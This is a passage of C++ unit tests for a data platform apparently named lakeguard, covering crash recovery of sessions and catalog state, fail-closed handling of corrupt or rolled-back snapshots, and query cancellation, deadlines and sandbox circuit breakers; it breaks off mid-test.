  Env env = MakeEnv(root, /*fresh=*/false);
  ASSERT_TRUE(env.platform->durability_status().ok());
  auto stats = env.cluster->service->RecoverSessions();
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->recovered, 0u);
  EXPECT_EQ(stats->rejected, 1u);
  EXPECT_EQ(env.cluster->service->ActiveSessionCount(), 0u);
}

TEST_F(RecoveryTest, DeprovisionedUserRejectsRecoveredSession) {
  std::string root = Dir("sessions-deprovisioned");
  {
    Env env = MakeEnv(root, /*fresh=*/true);
    auto session = env.cluster->service->OpenSession("tok-alice");
    ASSERT_TRUE(session.ok());
  }
  // The restart does NOT re-register alice's token (IdP removed her).
  LakeguardPlatform::Options options;
  options.durable_root = root;
  options.catalog_checkpoint_every = 2;
  auto platform = std::make_unique<LakeguardPlatform>(options);
  ASSERT_TRUE(platform->AddUser("admin").ok());
  platform->RegisterToken("tok-admin", "admin");
  ClusterHandle* cluster = platform->CreateStandardCluster();
  auto stats = cluster->service->RecoverSessions();
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->recovered, 0u);
  EXPECT_EQ(stats->rejected, 1u);
  EXPECT_EQ(cluster->service->ActiveSessionCount(), 0u);
}

TEST_F(RecoveryTest, CorruptSessionSnapshotFailsClosed) {
  std::string root = Dir("sessions-corrupt");
  {
    Env env = MakeEnv(root, /*fresh=*/true);
    auto session = env.cluster->service->OpenSession("tok-alice");
    ASSERT_TRUE(session.ok());
  }
  // Flip a byte inside the persisted snapshot (backend-1 is the standard
  // cluster's store; backend-0 is the serverless handle's).
  std::string snap;
  for (const auto& entry :
       fs::directory_iterator(root + "/sessions/backend-1")) {
    if (entry.path().extension() == ".snap") snap = entry.path().string();
  }
  ASSERT_FALSE(snap.empty());
  {
    std::fstream file(snap, std::ios::binary | std::ios::in | std::ios::out);
    char byte = 0;
    file.seekg(20);
    file.read(&byte, 1);
    byte = static_cast<char>(byte ^ 0x01);
    file.seekp(20);
    file.write(&byte, 1);
  }
  Env env = MakeEnv(root, /*fresh=*/false);
  auto stats = env.cluster->service->RecoverSessions();
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->recovered, 0u);
  EXPECT_EQ(stats->corrupt, 1u);
  EXPECT_EQ(env.cluster->service->ActiveSessionCount(), 0u)
      << "a corrupt snapshot became a live session";
}

TEST_F(RecoveryTest, RolledBackCatalogRejectsNewerSessionState) {
  // The PV006 story at recovery scale: if the catalog directory is rolled
  // back (botched restore) while session snapshots survive, the snapshots
  // are stamped with an epoch the catalog has never seen — every one must
  // be rejected, because their bindings were verified against policy the
  // rolled-back catalog cannot reproduce.
  std::string root = Dir("rollback");
  std::string backup = Dir("rollback-backup");
  {
    Env env = MakeEnv(root, /*fresh=*/true);
    // Snapshot the catalog directory at epoch E1...
    fs::copy(root + "/catalog", backup, fs::copy_options::recursive);
    // ...then advance the catalog and persist a session at epoch E2 > E1.
    ASSERT_TRUE(env.Sql("CREATE TABLE main.s.later (z BIGINT)").ok());
    auto session = env.cluster->service->OpenSession("tok-alice");
    ASSERT_TRUE(session.ok());
    auto statement = env.cluster->service->PrepareStatement(
        *session, "SELECT COUNT(*) AS n FROM main.s.t");
    ASSERT_TRUE(statement.ok());
  }
  fs::remove_all(root + "/catalog");
  fs::rename(backup, root + "/catalog");
  Env env = MakeEnv(root, /*fresh=*/false);
  ASSERT_TRUE(env.platform->durability_status().ok())
      << env.platform->durability_status();
  auto stats = env.cluster->service->RecoverSessions();
  ASSERT_TRUE(stats.ok()) << stats.status();
  EXPECT_EQ(stats->recovered, 0u);
  EXPECT_EQ(stats->rejected, 1u);
  EXPECT_EQ(env.cluster->service->ActiveSessionCount(), 0u)
      << "a future-epoch snapshot was admitted against a rolled-back catalog";
}

// ---- 6. The crash matrix ---------------------------------------------------------

/// One crash–restart scenario: healthy phase, armed phase (mutations race
/// the crash), simulated death, restart, verify. The invariants checked
/// after restart:
///   * recovery succeeds, or fails typed-kDataLoss AND the catalog
///     authorizes nothing (fail closed, both layers);
///   * every acknowledged catalog mutation survived, with its audit record
///     (durable-before-ack + write-ahead ordering);
///   * the recovered audit trail has contiguous, duplicate-free sequences;
///   * recovered sessions pass full re-verification; corrupt snapshots are
///     typed and never admitted.
class CrashMatrixTest : public RecoveryTest {
 protected:
  void RunScenario(const std::string& root, const char* point,
                   CrashMode mode) {
    const bool import_point = std::string(point) == "snapshot.import";
    uint64_t acked_epoch = 0;
    std::vector<std::string> acked_tables;
    {
      Env env = MakeEnv(root, /*fresh=*/true);
      ASSERT_TRUE(env.platform->durability_status().ok());
      auto session = env.cluster->service->OpenSession("tok-alice");
      ASSERT_TRUE(session.ok()) << session.status();
      auto statement = env.cluster->service->PrepareStatement(
          *session, "SELECT COUNT(*) AS n FROM main.s.t");
      ASSERT_TRUE(statement.ok()) << statement.status();
      acked_epoch = env.platform->catalog().epoch();

      std::optional<ScopedCrash> crash;
      if (!import_point) {
        CrashPolicy policy;
        policy.mode = mode;
        policy.skip_evaluations = 1;
        crash.emplace(point, policy);
      }
      // Mutations race the armed crash: some are acknowledged, the rest
      // die. Only the acknowledged ones are owed to the restart.
      for (int i = 0; i < 4; ++i) {
        std::string name = "main.s.extra" + std::to_string(i);
        TableInfo info;
        info.full_name = name;
        info.schema = Schema({{"y", TypeKind::kInt64, true}});
        Status created = env.platform->catalog().CreateTable("admin", info);
        if (created.ok()) {
          acked_epoch = env.platform->catalog().epoch();
          acked_tables.push_back(name);
        }
        auto churn = env.cluster->service->OpenSession("tok-alice");
        if (churn.ok()) {
          (void)env.cluster->service->PrepareStatement(
              *churn, "SELECT COUNT(*) AS n FROM main.s.t");
        }
      }
      // The platform is destroyed with the crash still latched: teardown
      // paths that reach a dead store stay dead, like a real process exit.
    }

    Env env = MakeEnv(root, /*fresh=*/false);
    Status health = env.platform->durability_status();
    if (!health.ok()) {
      // Only genuine corruption may fail recovery — and then everything
      // fails closed with the typed code, never permissively.
      EXPECT_EQ(health.code(), StatusCode::kDataLoss) << health;
      EXPECT_FALSE(
          env.platform->catalog().CreateCatalog("admin", "other").ok());
      auto ctx = env.platform->DirectContext(env.cluster, "alice");
      if (ctx.ok()) {
        EXPECT_FALSE(env.cluster->engine
                         ->ExecuteSql("SELECT COUNT(*) AS n FROM main.s.t",
                                      *ctx)
                         .ok());
      }
      return;
    }
    // Exact-or-better: every acknowledged epoch is recovered; an unacked
    // tail record may add at most the publishes that died post-fsync.
    EXPECT_GE(env.platform->catalog().epoch(), acked_epoch);
    for (const std::string& name : acked_tables) {
      EXPECT_TRUE(env.platform->catalog().GetTable(name).ok())
          << "acknowledged table " << name << " lost";
      EXPECT_FALSE(
          env.platform->catalog().audit().ForSecurable(name).empty())
          << "acknowledged mutation of " << name << " lost its audit record";
    }
    std::set<uint64_t> sequences;
    for (const AuditEvent& event : env.platform->catalog().audit().All()) {
      EXPECT_TRUE(sequences.insert(event.sequence).second)
          << "duplicate audit sequence " << event.sequence;
    }
    uint64_t expected = 1;
    for (uint64_t sequence : sequences) {
      EXPECT_EQ(sequence, expected++) << "gap in recovered audit trail";
    }

    if (import_point) {
      // The crash seam lives in recovery itself: death mid-replay leaves
      // the un-imported snapshots on disk for the next attempt.
      CrashPolicy policy;
      policy.mode = mode;
      policy.skip_evaluations = 1;
      {
        ScopedCrash crash(point, policy);
        auto died = env.cluster->service->RecoverSessions();
        ASSERT_FALSE(died.ok());
        EXPECT_TRUE(fault::IsDeath(died.status())) << died.status();
      }
    }
    auto stats = env.cluster->service->RecoverSessions();
    ASSERT_TRUE(stats.ok()) << stats.status();
    const bool corrupt_possible =
        std::string(point) == "snapshot.write" && mode == CrashMode::kBitFlip;
    if (corrupt_possible) {
      // A bit-flip that rides the atomic publish to completion is detected
      // corruption: typed, counted, never admitted.
      EXPECT_LE(stats->corrupt, 1u);
    } else {
      EXPECT_EQ(stats->corrupt, 0u);
    }
    // The phase-1 session was acknowledged before the crash was armed, so
    // unless its own snapshot was the corrupted one it must come back.
    EXPECT_GE(stats->recovered + stats->corrupt, 1u);
    // For the snapshot.import seam the first (dying) pass imported exactly
    // one session and retired its snapshot before the death fired, so the
    // retry recovers one fewer than the live count.
    const size_t imported_by_dying_pass = import_point ? 1 : 0;
    EXPECT_EQ(env.cluster->service->ActiveSessionCount(),
              stats->recovered + imported_by_dying_pass);
  }
};

TEST_F(CrashMatrixTest, EveryCrashPointEveryModeRecoversOrFailsClosed) {
  int scenario = 0;
  for (const CrashPointInfo& point : DurableCrashPoints()) {
    std::vector<CrashMode> modes;
    if (point.writes_bytes) {
      modes = {CrashMode::kBeforeWrite, CrashMode::kTornWrite,
               CrashMode::kBitFlip, CrashMode::kAfterWrite};
    } else {
      modes = {CrashMode::kBeforeWrite, CrashMode::kAfterWrite};
    }
    for (CrashMode mode : modes) {
      SCOPED_TRACE(std::string(point.name) + " / mode=" +
                   std::to_string(static_cast<int>(mode)));
      RunScenario(Dir("matrix-" + std::to_string(scenario++)), point.name,
                  mode);
      if (::testing::Test::HasFatalFailure()) return;
    }
  }
}

}  // namespace
}  // namespace lakeguard
