// Tests for query-lifecycle hardening: cooperative cancellation and
// per-operation deadlines through the streaming pipeline, the Connect
// CancelOperation RPC and service drain mode, sandbox supervision (crash
// quarantine, liveness sweeps, per-trust-domain circuit breakers) and the
// resource-release guarantees that ride on cancellation (resident batches,
// breaker materializations, eFGAC spill objects).

#include <gtest/gtest.h>

#include <atomic>
#include <thread>

#include "common/cancellation.h"
#include "common/fault.h"
#include "connect/protocol.h"
#include "core/platform.h"
#include "plan/plan_serde.h"
#include "sql/parser.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

// ---- Cancellation primitive -------------------------------------------------------

TEST(CancellationTest, DefaultTokenCanNeverBeCancelled) {
  CancellationToken token;
  EXPECT_FALSE(token.CanBeCancelled());
  EXPECT_FALSE(token.IsCancelled());
  EXPECT_TRUE(token.Check().ok());
}

TEST(CancellationTest, CancelIsStickyAndFirstReasonWins) {
  CancellationSource source;
  CancellationToken token = source.token();
  EXPECT_TRUE(token.CanBeCancelled());
  EXPECT_TRUE(token.Check().ok());
  EXPECT_TRUE(source.Cancel("first"));
  EXPECT_FALSE(source.Cancel("second"));  // already cancelled
  Status status = token.Check();
  EXPECT_TRUE(status.IsCancelled());
  EXPECT_NE(status.message().find("first"), std::string::npos);
  EXPECT_EQ(status.message().find("second"), std::string::npos);
}

TEST(CancellationTest, DeadlineReportsDeadlineExceeded) {
  SimulatedClock clock(0);
  CancellationSource source = CancellationSource::WithDeadline(&clock, 1'000);
  CancellationToken token = source.token();
  EXPECT_TRUE(token.Check().ok());
  clock.AdvanceMicros(999);
  EXPECT_TRUE(token.Check().ok());
  clock.AdvanceMicros(1);
  EXPECT_TRUE(token.Check().IsDeadlineExceeded());
}

TEST(CancellationTest, ExplicitCancelWinsOverExpiredDeadline) {
  SimulatedClock clock(0);
  CancellationSource source = CancellationSource::WithDeadline(&clock, 1'000);
  source.Cancel("user asked");
  clock.AdvanceMicros(5'000);
  EXPECT_TRUE(source.token().Check().IsCancelled());
}

TEST(CancellationTest, LinkedSourceInheritsParentCancellation) {
  CancellationSource parent;
  CancellationSource child = CancellationSource::LinkedTo(parent.token());
  EXPECT_TRUE(child.token().Check().ok());
  parent.Cancel("parent gone");
  EXPECT_TRUE(child.token().Check().IsCancelled());
  // And the link is one-way: cancelling another child never cancels the
  // parent.
  CancellationSource sibling = CancellationSource::LinkedTo(parent.token());
  (void)sibling;
  EXPECT_TRUE(parent.token().IsCancelled());
}

TEST(CancellationTest, LinkedChildCancellableOnItsOwn) {
  CancellationSource parent;
  CancellationSource child = CancellationSource::LinkedTo(parent.token());
  child.Cancel("child only");
  EXPECT_TRUE(child.token().IsCancelled());
  EXPECT_FALSE(parent.token().IsCancelled());
}

// ---- Typed-status plumbing --------------------------------------------------------

TEST(LifecycleStatusTest, CancelledAndUnavailableRoundTripTheWire) {
  EXPECT_EQ(StatusCodeFromString(
                StatusCodeToString(StatusCode::kCancelled)),
            StatusCode::kCancelled);
  EXPECT_EQ(StatusCodeFromString(
                StatusCodeToString(StatusCode::kUnavailable)),
            StatusCode::kUnavailable);
}

TEST(LifecycleStatusTest, RetryClassification) {
  // A draining replica / open breaker is worth retrying elsewhere; a
  // cancelled or expired operation must never be silently re-run.
  EXPECT_TRUE(IsTransientError(Status::Unavailable("draining")));
  EXPECT_FALSE(IsTransientError(Status::Cancelled("stop")));
  EXPECT_FALSE(IsTransientError(Status::DeadlineExceeded("late")));
}

TEST(LifecycleProtocolTest, LifecycleRequestFieldsSurviveTheWire) {
  ConnectRequest request;
  request.session_id = "sess-1";
  request.auth_token = "tok";
  request.operation_id = "op-9";
  request.deadline_micros = 123'456;
  request.cancel_operation_id = "op-8";
  auto decoded = DecodeRequest(EncodeRequest(request));
  ASSERT_TRUE(decoded.ok());
  EXPECT_EQ(decoded->client_version, kConnectProtocolVersion);
  EXPECT_EQ(decoded->deadline_micros, 123'456);
  EXPECT_EQ(decoded->cancel_operation_id, "op-8");
  EXPECT_EQ(decoded->operation_id, "op-9");
}

// ---- Engine: cancellation & deadlines in the streaming pipeline -------------------

class EngineLifecycleTest : public ::testing::Test {
 protected:
  EngineLifecycleTest() {
    FaultInjector::Instance().Reset();
    FaultInjector::Instance().Reseed(11);
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    platform_.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    cluster_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");

    QueryEngineConfig config = cluster_->engine->config();
    config.exec.batch_size = 8;
    cluster_->engine->set_config(config);

    // 512 rows at batch_size=8 -> 64 scan batches: plenty of pipeline left
    // to abandon when the query is cancelled after the first pull.
    MustSql("CREATE TABLE main.s.wide (x BIGINT)");
    std::string sql = "INSERT INTO main.s.wide VALUES ";
    for (int i = 0; i < 512; ++i) {
      if (i > 0) sql += ", ";
      sql += "(" + std::to_string(i) + ")";
    }
    MustSql(sql);
  }

  ~EngineLifecycleTest() override { FaultInjector::Instance().Reset(); }

  Table MustSql(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    EXPECT_TRUE(result.ok()) << sql << " -> " << result.status();
    return result.ok() ? *result : Table();
  }

  void RegisterAdder() {
    FunctionInfo fn;
    fn.full_name = "main.s.adder";
    fn.num_args = 2;
    fn.return_type = TypeKind::kInt64;
    fn.body = canned::SumUdf();
    ASSERT_TRUE(platform_.catalog().CreateFunction("admin", fn).ok());
  }

  Dispatcher& dispatcher() {
    return cluster_->cluster->driver_host().dispatcher();
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

TEST_F(EngineLifecycleTest, CancelAfterFirstPullStopsWithinOnePull) {
  auto stream =
      cluster_->engine->ExecuteSqlStreaming("SELECT x FROM main.s.wide",
                                            admin_ctx_);
  ASSERT_TRUE(stream.ok()) << stream.status();
  auto first = (*stream)->Next();
  ASSERT_TRUE(first.ok());
  ASSERT_TRUE(first->has_value());

  (*stream)->Cancel("user hit ctrl-c");
  EXPECT_TRUE((*stream)->cancelled());

  // The very next pull is the typed status — not another batch.
  auto next = (*stream)->Next();
  EXPECT_TRUE(next.status().IsCancelled()) << next.status();
  EXPECT_NE(next.status().message().find("ctrl-c"), std::string::npos);

  // Abandoning 60+ unread batches leaks nothing: the pipeline teardown
  // released every resident batch, and the scan never ran ahead.
  const ExecutorStats& stats = (*stream)->stats();
  EXPECT_EQ(stats.resident_batches, 0u);
  EXPECT_LE(stats.batches_scanned, 4u);

  // Cancellation is idempotent and the first reason sticks.
  (*stream)->Cancel("second reason");
  auto again = (*stream)->Next();
  EXPECT_TRUE(again.status().IsCancelled());
  EXPECT_NE(again.status().message().find("ctrl-c"), std::string::npos);
}

TEST_F(EngineLifecycleTest, CancelReleasesBreakerMaterialization) {
  auto stream = cluster_->engine->ExecuteSqlStreaming(
      "SELECT x FROM main.s.wide ORDER BY x", admin_ctx_);
  ASSERT_TRUE(stream.ok()) << stream.status();
  auto first = (*stream)->Next();
  ASSERT_TRUE(first.ok());
  ASSERT_TRUE(first->has_value());
  // The sort breaker holds its whole materialized input right now.
  EXPECT_GT((*stream)->stats().resident_batches, 0u);

  (*stream)->Cancel();
  EXPECT_EQ((*stream)->stats().resident_batches, 0u);
  EXPECT_TRUE((*stream)->Next().status().IsCancelled());
}

TEST_F(EngineLifecycleTest, CallerTokenCancelsTheStream) {
  CancellationSource source;
  ExecutionContext ctx = admin_ctx_;
  ctx.cancel = source.token();
  auto stream =
      cluster_->engine->ExecuteSqlStreaming("SELECT x FROM main.s.wide", ctx);
  ASSERT_TRUE(stream.ok());
  ASSERT_TRUE((*stream)->Next().ok());
  // The caller's token (the Connect operation, in production) fires; the
  // stream observes it without anyone touching the stream object.
  source.Cancel("operation cancelled");
  auto next = (*stream)->Next();
  EXPECT_TRUE(next.status().IsCancelled()) << next.status();
}

TEST_F(EngineLifecycleTest, DeadlineExceededMidStreamIsTyped) {
  CancellationSource source = CancellationSource::WithDeadline(
      platform_.clock(), platform_.clock()->NowMicros() + 1'000'000);
  ExecutionContext ctx = admin_ctx_;
  ctx.cancel = source.token();
  auto stream =
      cluster_->engine->ExecuteSqlStreaming("SELECT x FROM main.s.wide", ctx);
  ASSERT_TRUE(stream.ok());
  ASSERT_TRUE((*stream)->Next().ok());
  platform_.simulated_clock()->AdvanceMicros(2'000'000);
  auto next = (*stream)->Next();
  EXPECT_TRUE(next.status().IsDeadlineExceeded()) << next.status();
  // Teardown after the deadline releases the scan's in-flight part.
  (*stream)->Cancel("deadline exceeded");
  EXPECT_EQ((*stream)->stats().resident_batches, 0u);
}

TEST_F(EngineLifecycleTest, DeadlineAbortsInsideBreakerDrain) {
  RegisterAdder();
  // Budget: less than one sandbox cold start (2 s of modeled clock). The
  // sort breaker starts draining its child, the first UDF batch burns the
  // cold start, and the deadline fires *inside* the drain loop — the
  // breaker's partial materialization must be released, not leaked.
  CancellationSource source = CancellationSource::WithDeadline(
      platform_.clock(), platform_.clock()->NowMicros() + 1'000'000);
  ExecutionContext ctx = admin_ctx_;
  ctx.cancel = source.token();
  auto stream = cluster_->engine->ExecuteSqlStreaming(
      "SELECT main.s.adder(x, 1) AS v FROM main.s.wide ORDER BY v", ctx);
  ASSERT_TRUE(stream.ok()) << stream.status();
  auto first = (*stream)->Next();
  EXPECT_TRUE(first.status().IsDeadlineExceeded()) << first.status();
  // The breaker's partial materialization and the scan's in-flight part are
  // all released by teardown — an expired query leaks nothing.
  (*stream)->Cancel("deadline exceeded");
  EXPECT_EQ((*stream)->stats().resident_batches, 0u);
}

// ---- Dispatcher: crash supervision & circuit breaker ------------------------------

TEST_F(EngineLifecycleTest, SandboxCrashIsTypedAndQuarantined) {
  RegisterAdder();
  {
    ScopedFault crash("sandbox.crash",
                      FaultPolicy::FailTimes(1, StatusCode::kDataLoss));
    auto result = cluster_->engine->ExecuteSql(
        "SELECT main.s.adder(x, 1) AS v FROM main.s.wide", admin_ctx_);
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(result.status().code(), StatusCode::kDataLoss)
        << result.status();
  }
  DispatcherStats stats = dispatcher().stats();
  EXPECT_EQ(stats.crashes_detected, 1u);
  EXPECT_EQ(stats.quarantines, 1u);
  EXPECT_EQ(dispatcher().ActiveSandboxCount(), 0u);  // dead one is gone

  // One crash does not trip the breaker: the next query cold-starts a fresh
  // sandbox and succeeds.
  auto retry = cluster_->engine->ExecuteSql(
      "SELECT main.s.adder(x, 1) AS v FROM main.s.wide", admin_ctx_);
  ASSERT_TRUE(retry.ok()) << retry.status();
  EXPECT_EQ(retry->num_rows(), 512u);
  EXPECT_EQ(dispatcher().breaker_state("admin"), BreakerState::kClosed);
}

TEST_F(EngineLifecycleTest, ThreeCrashesTripBreakerThenProbeRestores) {
  RegisterAdder();
  const std::string sql =
      "SELECT main.s.adder(x, 1) AS v FROM main.s.wide";
  {
    ScopedFault crash("sandbox.crash", FaultPolicy::FailTimes(3));
    for (int i = 0; i < 3; ++i) {
      auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
      ASSERT_FALSE(result.ok()) << "crash " << i << " did not surface";
    }
  }
  DispatcherStats tripped = dispatcher().stats();
  EXPECT_EQ(tripped.crashes_detected, 3u);
  EXPECT_EQ(tripped.cold_starts, 3u);
  EXPECT_EQ(tripped.breaker_open_events, 1u);
  EXPECT_EQ(dispatcher().breaker_state("admin"), BreakerState::kOpen);

  // While open: fail fast with a typed retryable status, and crucially no
  // provisioner call — no 2 s cold start burned on code that keeps dying.
  auto fast_fail = cluster_->engine->ExecuteSql(sql, admin_ctx_);
  ASSERT_FALSE(fast_fail.ok());
  EXPECT_TRUE(fast_fail.status().IsUnavailable()) << fast_fail.status();
  EXPECT_TRUE(IsTransientError(fast_fail.status()));
  DispatcherStats open = dispatcher().stats();
  EXPECT_EQ(open.cold_starts, 3u);  // unchanged: provisioner never called
  EXPECT_GE(open.breaker_fast_fails, 1u);

  // Clock-driven cooldown: the breaker admits one half-open probe, the
  // probe dispatch succeeds (the fault is exhausted) and service resumes.
  platform_.simulated_clock()->AdvanceMicros(10'000'000);
  auto probe = cluster_->engine->ExecuteSql(sql, admin_ctx_);
  ASSERT_TRUE(probe.ok()) << probe.status();
  EXPECT_EQ(probe->num_rows(), 512u);
  DispatcherStats closed = dispatcher().stats();
  EXPECT_EQ(closed.breaker_half_open_probes, 1u);
  EXPECT_EQ(closed.breaker_closes, 1u);
  EXPECT_EQ(dispatcher().breaker_state("admin"), BreakerState::kClosed);
}

TEST_F(EngineLifecycleTest, FailedProbeReopensBreaker) {
  RegisterAdder();
  const std::string sql =
      "SELECT main.s.adder(x, 1) AS v FROM main.s.wide";
  ScopedFault crash("sandbox.crash", FaultPolicy::FailTimes(4));
  for (int i = 0; i < 3; ++i) {
    ASSERT_FALSE(cluster_->engine->ExecuteSql(sql, admin_ctx_).ok());
  }
  ASSERT_EQ(dispatcher().breaker_state("admin"), BreakerState::kOpen);
  platform_.simulated_clock()->AdvanceMicros(10'000'000);
  // The probe itself crashes (4th injected fault): straight back to open,
  // without needing another full failure streak.
  ASSERT_FALSE(cluster_->engine->ExecuteSql(sql, admin_ctx_).ok());
  EXPECT_EQ(dispatcher().breaker_state("admin"), BreakerState::kOpen);
  EXPECT_EQ(dispatcher().stats().breaker_open_events, 2u);
}

TEST_F(EngineLifecycleTest, ProvisionFailuresDoNotChargeTheBreaker) {
  RegisterAdder();
  // Cluster-manager outage: every provision attempt fails. The breaker is
  // about *user code* crashing sandboxes, so it must stay closed.
  ScopedFault outage("dispatcher.provision", FaultPolicy::FailTimes(10));
  auto result = cluster_->engine->ExecuteSql(
      "SELECT main.s.adder(x, 1) AS v FROM main.s.wide", admin_ctx_);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kAborted) << result.status();
  EXPECT_EQ(dispatcher().breaker_state("admin"), BreakerState::kClosed);
  EXPECT_EQ(dispatcher().stats().breaker_open_events, 0u);
}

TEST_F(EngineLifecycleTest, LivenessSweepQuarantinesSilentlyDeadSandboxes) {
  RegisterAdder();
  ASSERT_TRUE(cluster_->engine
                  ->ExecuteSql("SELECT main.s.adder(x, 1) AS v "
                               "FROM main.s.wide LIMIT 8",
                               admin_ctx_)
                  .ok());
  ASSERT_EQ(dispatcher().ActiveSandboxCount(), 1u);

  // The container died between queries; only the heartbeat notices.
  ScopedFault probe("sandbox.heartbeat", FaultPolicy::FailTimes(1));
  EXPECT_EQ(dispatcher().CheckLiveness(), 1u);
  DispatcherStats stats = dispatcher().stats();
  EXPECT_GE(stats.heartbeat_checks, 1u);
  EXPECT_EQ(stats.crashes_detected, 1u);
  EXPECT_EQ(stats.quarantines, 1u);
  EXPECT_EQ(dispatcher().ActiveSandboxCount(), 0u);
}

class DispatcherSupervisorTest : public ::testing::Test {
 protected:
  DispatcherSupervisorTest()
      : clock_(0), env_(&clock_), provisioner_(&env_, &clock_),
        dispatcher_(&provisioner_, &clock_) {
    FaultInjector::Instance().Reset();
    FaultInjector::Instance().Reseed(13);
  }
  ~DispatcherSupervisorTest() override { FaultInjector::Instance().Reset(); }

  RecordBatch ArgBatch() {
    TableBuilder builder(Schema({{"a0", TypeKind::kInt64, true},
                                 {"a1", TypeKind::kInt64, true}}));
    EXPECT_TRUE(builder.AppendRow({Value::Int(1), Value::Int(2)}).ok());
    EXPECT_TRUE(builder.AppendRow({Value::Int(3), Value::Int(4)}).ok());
    return *builder.Build().Combine();
  }

  std::vector<UdfInvocation> SumInvocations() {
    UdfInvocation inv;
    inv.bytecode = canned::SumUdf();
    inv.arg_indices = {0, 1};
    inv.result_name = "sum";
    inv.result_type = TypeKind::kInt64;
    return {inv};
  }

  SimulatedClock clock_;
  SimulatedHostEnvironment env_;
  LocalSandboxProvisioner provisioner_;
  Dispatcher dispatcher_;
};

TEST_F(DispatcherSupervisorTest, AcquireRespawnsSandboxFoundDead) {
  // Legacy Acquire callers manage the sandbox themselves; when their
  // sandbox dies, the *next acquisition* finds the corpse.
  auto sandbox = dispatcher_.Acquire("s1", "owner", SandboxPolicy::LockedDown());
  ASSERT_TRUE(sandbox.ok());
  {
    ScopedFault crash("sandbox.crash", FaultPolicy::FailTimes(1));
    EXPECT_FALSE((*sandbox)->ExecuteBatch(ArgBatch(), SumInvocations()).ok());
  }
  EXPECT_FALSE((*sandbox)->alive());
  std::string dead_id = (*sandbox)->id();  // quarantine frees the sandbox

  auto respawned =
      dispatcher_.Acquire("s1", "owner", SandboxPolicy::LockedDown());
  ASSERT_TRUE(respawned.ok());
  EXPECT_TRUE((*respawned)->alive());
  EXPECT_NE((*respawned)->id(), dead_id);
  DispatcherStats stats = dispatcher_.stats();
  EXPECT_EQ(stats.crashes_detected, 1u);
  EXPECT_EQ(stats.quarantines, 1u);
  EXPECT_EQ(stats.respawns, 1u);
  EXPECT_EQ(stats.cold_starts, 2u);
}

TEST_F(DispatcherSupervisorTest, DispatchSurvivesConcurrentEvictionPressure) {
  // A worker dispatches in a loop while the main thread hammers EvictIdle
  // with "everything is idle". The busy pin must keep every in-flight
  // sandbox alive under its dispatch (ASan/TSan turn a violation into a
  // hard failure); idle entries between dispatches may be evicted freely.
  std::atomic<bool> done{false};
  std::atomic<int> failures{0};
  std::thread worker([&] {
    for (int i = 0; i < 200; ++i) {
      auto result = dispatcher_.Dispatch("sess-w", "owner",
                                         SandboxPolicy::LockedDown(),
                                         ArgBatch(), SumInvocations());
      if (!result.ok() || result->num_rows() != 2) ++failures;
    }
    done.store(true);
  });
  while (!done.load()) {
    dispatcher_.EvictIdle(-1);
    std::this_thread::yield();
  }
  worker.join();
  EXPECT_EQ(failures.load(), 0);
}

TEST_F(DispatcherSupervisorTest, EvictIdleSkipsBusyAndReportsIt) {
  // Deterministic single-threaded variant built on ReleaseSession's doom
  // path being unavailable here: instead, verify the timestamp contract —
  // an entry that was just used is not idle, and EvictIdle(-1) with no
  // in-flight dispatch evicts it (busy_evict_skips only moves when a pin
  // is held, which the concurrent test above exercises).
  ASSERT_TRUE(dispatcher_
                  .Dispatch("sess-1", "owner", SandboxPolicy::LockedDown(),
                            ArgBatch(), SumInvocations())
                  .ok());
  ASSERT_EQ(dispatcher_.ActiveSandboxCount(), 1u);
  EXPECT_EQ(dispatcher_.EvictIdle(1'000'000), 0u);  // not idle yet
  clock_.AdvanceMicros(2'000'000);
  EXPECT_EQ(dispatcher_.EvictIdle(1'000'000), 1u);
  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 0u);
}

// ---- Connect service: cancel, deadline, drain, expiry -----------------------------

RecordBatch BigBatch(int64_t rows) {
  TableBuilder builder(Schema({{"i", TypeKind::kInt64, false}}));
  for (int64_t i = 0; i < rows; ++i) {
    EXPECT_TRUE(builder.AppendRow({Value::Int(i)}).ok());
  }
  return *builder.Build().Combine();
}

class ConnectLifecycleTest : public ::testing::Test {
 protected:
  ConnectLifecycleTest() {
    FaultInjector::Instance().Reset();
    FaultInjector::Instance().Reseed(17);
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok", "admin");
    cluster_ = platform_.CreateStandardCluster();
  }
  ~ConnectLifecycleTest() override { FaultInjector::Instance().Reset(); }

  /// Starts a large streaming operation with a known id; returns true when
  /// the server buffered it with a live stream.
  bool StartStreamingOp(ConnectClient& client, const std::string& op_id,
                        int64_t rows = 7000) {
    ConnectRequest request;
    request.session_id = client.session_id();
    request.auth_token = "tok";
    request.operation_id = op_id;
    request.plan_bytes =
        PlanToBytes(client.FromBatch(BigBatch(rows)).plan());
    ConnectResponse response = cluster_->service->Execute(request);
    EXPECT_TRUE(response.ok) << response.error_message;
    return response.ok && response.streaming;
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
};

TEST_F(ConnectLifecycleTest, CancelOperationTearsDownBufferedStream) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(StartStreamingOp(*client, "op-cancel"));
  ASSERT_EQ(cluster_->service->LiveOperationCount(), 1u);

  EXPECT_TRUE(
      cluster_->service->CancelOperation(client->session_id(), "op-cancel")
          .ok());
  EXPECT_EQ(cluster_->service->service_stats().cancels, 1u);
  EXPECT_EQ(cluster_->service->LiveOperationCount(), 0u);

  // Buffered chunks are gone and further fetches answer the typed status.
  auto fetch =
      cluster_->service->FetchChunk(client->session_id(), "op-cancel", 0);
